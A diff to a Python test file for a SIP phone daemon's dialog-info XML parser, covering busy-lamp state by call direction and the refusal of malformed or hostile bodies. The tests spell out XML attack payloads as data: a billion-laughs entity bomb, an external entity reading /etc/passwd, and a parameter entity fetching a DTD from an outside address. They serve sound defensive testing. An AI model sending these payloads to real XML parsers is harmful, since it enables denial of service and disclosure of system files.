@@ -7,16 +7,23 @@ The KAMAILIO_* bodies are verbatim NOTIFY bodies captured from the lab's Kamaili
 
 from __future__ import annotations
 
+import gc
+
 import pytest
 
 from phoned.sip.dialog_info import (
     MAX_BODY_BYTES,
+    MAX_DEPTH,
+    MAX_ELEMENTS,
     BlfState,
+    Dialog,
     DialogInfo,
+    DialogInfoError,
     DialogTracker,
     lamp_state,
     parse_dialog_document,
     parse_dialog_info,
+    read_dialog_document,
 )
 from phoned.sip.pjsip_hooks import has_tag, parse_request, uri_user
 from phoned.sip.subscriptions import buddy_uri
@@ -40,9 +47,15 @@ KAMAILIO_IDLE = (
 ENTITY = "sip:1002@127.0.0.21"
 
 
-def document(*dialogs: tuple[str, str], version: int = 1, state: str = "full") -> bytes:
-    """A dialog-info document with (id, state) dialogs."""
-    inner = "".join(f'<dialog id="{i}"><state>{s}</state></dialog>' for i, s in dialogs)
+def document(
+    *dialogs: tuple[str, str] | tuple[str, str, str], version: int = 1, state: str = "full"
+) -> bytes:
+    """A dialog-info document with (id, state) or (id, state, direction) dialogs."""
+    inner = "".join(
+        f'<dialog id="{d[0]}"{f" direction={d[2]!r}" if len(d) > 2 else ""}>'
+        f"<state>{d[1]}</state></dialog>"
+        for d in dialogs
+    )
     return (
         f'<dialog-info xmlns="urn:ietf:params:xml:ns:dialog-info" version="{version}" '
         f'state="{state}" entity="sip:1003@pbx.example.com">{inner}</dialog-info>'
@@ -61,7 +74,9 @@ def test_kamailio_notify_bodies(body: bytes, state: BlfState) -> None:
 
 def test_kamailio_document_fields() -> None:
     info = parse_dialog_document(KAMAILIO_RINGING)
-    assert info == DialogInfo(entity=ENTITY, version=2, full=True, dialogs={"lab-1": "early"})
+    assert info == DialogInfo(
+        entity=ENTITY, version=2, full=True, dialogs={"lab-1": Dialog("early", "recipient")}
+    )
 
 
 # ---------------------------------------------------------------- the lamp rule
@@ -95,14 +110,14 @@ def test_lamp_state_ignores_case_and_blanks() -> None:
 def test_unknown_dialog_state_is_left_out() -> None:
     info = parse_dialog_document(document(("a", "on-hold"), ("b", "early")))
     assert info is not None
-    assert dict(info.dialogs) == {"b": "early"}
+    assert dict(info.dialogs) == {"b": Dialog("early")}
 
 
 def test_document_without_namespace_and_without_ids_is_read() -> None:
     body = b'<dialog-info version="0" state="full" entity="sip:7@x"><dialog><state>confirmed</state></dialog><dialog><state>early</state></dialog></dialog-info>'  # noqa: E501
     info = parse_dialog_document(body)
     assert info is not None
-    assert dict(info.dialogs) == {"#0": "confirmed", "#1": "early"}
+    assert dict(info.dialogs) == {"#0": Dialog("confirmed"), "#1": Dialog("early")}
     assert parse_dialog_info(body) == ("sip:7@x", BlfState.BUSY)
 
 
@@ -113,6 +128,87 @@ def test_namespace_prefix_as_some_pbxs_send_it() -> None:
         b"</di:dialog></di:dialog-info>"
     )
     assert parse_dialog_info(body) == ("sip:1004@pbx", BlfState.RINGING)
+
+
+# ---------------------------------------------------------------- early by direction
+# RFC 4235 §4.1.1: direction="initiator" means the watched extension placed the call.
+@pytest.mark.parametrize(
+    ("dialogs", "state"),
+    [
+        ((("a", "early", "initiator"),), BlfState.BUSY),  # calling out: ringback -> red
+        ((("a", "early", "recipient"),), BlfState.RINGING),  # a call rings there: blinking
+        ((("a", "early"),), BlfState.RINGING),  # no direction: cannot tell, offer pickup
+        ((("a", "trying", "initiator"),), BlfState.BUSY),  # dialling
+        ((("a", "proceeding", "initiator"),), BlfState.BUSY),
+        ((("a", "proceeding", "recipient"),), BlfState.RINGING),
+        ((("a", "early", "Initiator "),), BlfState.BUSY),  # any case, blanks around
+        ((("a", "early", "sideways"),), BlfState.RINGING),  # unknown direction: none
+        ((("a", "confirmed", "recipient"),), BlfState.BUSY),
+        ((("a", "terminated", "initiator"),), BlfState.IDLE),
+        # calling out while another call rings there: busy wins, as for confirmed
+        ((("a", "early", "initiator"), ("b", "early", "recipient")), BlfState.BUSY),
+        ((("a", "early", "recipient"), ("b", "terminated", "initiator")), BlfState.RINGING),
+    ],
+)
+def test_early_is_judged_by_the_dialogs_direction(
+    dialogs: tuple[tuple[str, str, str] | tuple[str, str], ...], state: BlfState
+) -> None:
+    assert parse_dialog_info(document(*dialogs)) == ("sip:1003@pbx.example.com", state)
+
+
+def test_direction_is_read_into_the_document() -> None:
+    info = parse_dialog_document(
+        document(("a", "early", "initiator"), ("b", "early", "recipient"), ("c", "early"))
+    )
+    assert info is not None
+    assert dict(info.dialogs) == {
+        "a": Dialog("early", "initiator"),
+        "b": Dialog("early", "recipient"),
+        "c": Dialog("early", None),
+    }
+
+
+def test_lamp_state_takes_dialogs_or_bare_states() -> None:
+    assert lamp_state([Dialog("early", "initiator")]) is BlfState.BUSY
+    assert lamp_state([Dialog("early", "recipient"), "terminated"]) is BlfState.RINGING
+
+
+def test_asterisk_style_outgoing_call_is_busy_then_confirmed() -> None:
+    """An extension that dials out: trying, early (ringback), confirmed, terminated, each a
+    full document with the direction (the shape Asterisk and FreeSWITCH send)."""
+    tracker = DialogTracker()
+    states = []
+    for version, state in enumerate(("trying", "early", "confirmed", "terminated"), start=1):
+        info = parse_dialog_document(document(("out", state, "initiator"), version=version))
+        assert info is not None
+        states.append(tracker.apply(info))
+    assert states == [BlfState.BUSY, BlfState.BUSY, BlfState.BUSY, BlfState.IDLE]
+
+
+def test_tracker_keeps_a_dialogs_direction_when_a_partial_update_omits_it() -> None:
+    tracker = DialogTracker()
+    steps = [
+        document(("a", "early", "initiator"), version=1),
+        document(("a", "early"), version=2, state="partial"),  # direction left out
+        document(("b", "early"), version=3, state="full"),  # full: "a" is forgotten
+    ]
+    lamps = []
+    for body in steps:
+        info = parse_dialog_document(body)
+        assert info is not None
+        lamps.append(tracker.apply(info))
+    assert lamps == [BlfState.BUSY, BlfState.BUSY, BlfState.RINGING]
+
+
+def test_tracker_takes_a_new_direction_for_the_same_dialog() -> None:
+    tracker = DialogTracker()
+    for version, direction in ((1, "initiator"), (2, "recipient")):
+        info = parse_dialog_document(
+            document(("a", "early", direction), version=version, state="partial")
+        )
+        assert info is not None
+        lamp = tracker.apply(info)
+    assert lamp is BlfState.RINGING
 
 
 # ---------------------------------------------------------------- refusals
@@ -146,6 +242,101 @@ def test_dtds_and_entities_are_refused_before_parsing(body: bytes) -> None:
 def test_oversized_body_is_refused() -> None:
     padding = b" " * MAX_BODY_BYTES
     assert parse_dialog_info(document(("a", "early")) + padding) is None
+
+
+BILLION_LAUGHS = (
+    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
+    + b"".join(
+        b' <!ENTITY lol%d "%s">\n' % (n, (b"&lol%d;" % (n - 1) if n > 1 else b"&lol;") * 10)
+        for n in range(1, 10)
+    )
+    + b']>\n<dialog-info xmlns="urn:ietf:params:xml:ns:dialog-info" entity="&lol9;"/>'
+)
+EXTERNAL_ENTITY = (
+    b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
+    b'<dialog-info xmlns="urn:ietf:params:xml:ns:dialog-info" entity="sip:1@x">'
+    b"<dialog><state>&x;</state></dialog></dialog-info>"
+)
+PARAMETER_ENTITY = (
+    b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY % p SYSTEM "http://192.0.2.1/x.dtd"> %p;]>'
+    b"<dialog-info/>"
+)
+HEAD = b'<dialog-info xmlns="urn:ietf:params:xml:ns:dialog-info" entity="sip:1@x">'
+
+
+@pytest.mark.parametrize(
+    ("body", "reason"),
+    [
+        (BILLION_LAUGHS, "a DTD is refused"),
+        (EXTERNAL_ENTITY, "a DTD is refused"),
+        (PARAMETER_ENTITY, "a DTD is refused"),
+        (b'<!DOCTYPE dialog-info SYSTEM "file:///etc/passwd"><dialog-info/>', "a DTD is refused"),
+        (b"<dialog-info>&lol;</dialog-info>", "not well-formed XML ('undefined entity"),
+        (b"<a>" * (MAX_DEPTH + 1), f"nested deeper than {MAX_DEPTH}"),
+        (b"<a>" * 20_000, f"nested deeper than {MAX_DEPTH}"),
+        (HEAD + b"<x/>" * MAX_ELEMENTS + b"</dialog-info>", f"more than {MAX_ELEMENTS} elements"),
+        (b" " * (MAX_BODY_BYTES + 1), f"body of {MAX_BODY_BYTES + 1} bytes is over"),
+        (b'<?xml version="1.0" encoding="x-bogus"?><dialog-info/>', "cannot decode the body"),
+        # found by scripts/fuzz: expat raises a bare ValueError for these
+        (b'<?xml version="1.0" encoding="UTF-7"?><dialog-info/>', "multi-byte encodings are"),
+        (b'<?xml version="1.0" encoding="big5"?><dialog-info/>', "multi-byte encodings are"),
+        (b"<presence/>", "the root element is 'presence', not dialog-info"),
+        (b'<dialog-info xmlns="urn:x"/>', "namespace 'urn:x' is not urn:ietf"),
+        (b"\xff\xfe<\x00", "not well-formed XML"),
+        (b"", "not well-formed XML ('no element found"),
+        (b"<dialog-info>\n\n<", "not well-formed XML ('unclosed token: line 3, column 0')"),
+    ],
+    ids=[
+        "billion-laughs", "external-entity", "parameter-entity", "external-dtd",
+        "undefined-entity", "depth-limit", "deep-60k", "element-limit", "oversized",
+        "unknown-encoding", "utf-7", "big5", "other-root", "other-namespace", "binary",
+        "empty", "truncated",
+    ],
+)  # fmt: skip
+def test_hostile_bodies_are_refused_with_a_one_line_reason(body: bytes, reason: str) -> None:
+    with pytest.raises(DialogInfoError) as refused:
+        read_dialog_document(body)
+    message = str(refused.value)
+    assert message.startswith("dialog-info: ")
+    assert reason in message
+    assert "\n" not in message
+    assert len(message) < 120
+    assert parse_dialog_document(body) is None  # the None-returning form refuses it too
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        KAMAILIO_RINGING, BILLION_LAUGHS, EXTERNAL_ENTITY, b"<not-xml", b"<a>" * 40,
+        HEAD + b"<x/>" * MAX_ELEMENTS, b'<?xml version="1.0" encoding="x-bogus"?><a/>',
+    ],
+    ids=["valid", "dtd", "entity", "syntax", "depth", "elements", "encoding"],
+)  # fmt: skip
+def test_parsing_leaves_no_reference_cycle(body: bytes) -> None:
+    """Rule 3: a cycle holding the parser's frames would hold the pjsua2 callback's frames
+    until the collector runs, at any time (a pjsua2 object freed then aborts)."""
+    gc.collect()
+    gc.disable()
+    try:
+        parse_dialog_document(body)
+        assert gc.collect() == 0
+    finally:
+        gc.enable()
+
+
+def test_nesting_at_the_limit_and_many_dialogs_are_read() -> None:
+    nested = b"<x>" * (MAX_DEPTH - 1) + b"</x>" * (MAX_DEPTH - 1)
+    assert read_dialog_document(HEAD + nested + b"</dialog-info>").dialogs == {}
+    many = document(*((f"d{i}", "terminated") for i in range(MAX_ELEMENTS // 2 - 1)))
+    info = read_dialog_document(many)
+    assert len(info.dialogs) == MAX_ELEMENTS // 2 - 1
+
+
+def test_a_huge_version_or_odd_digits_are_no_version() -> None:
+    body = document(("a", "early")).replace(b'version="1"', b'version="' + b"9" * 5000 + b'"')
+    assert read_dialog_document(body).version is None
+    arabic = document(("a", "early")).replace(b'version="1"', 'version="٣"'.encode())
+    assert read_dialog_document(arabic).version is None
 
 
 # ---------------------------------------------------------------- partial notifications
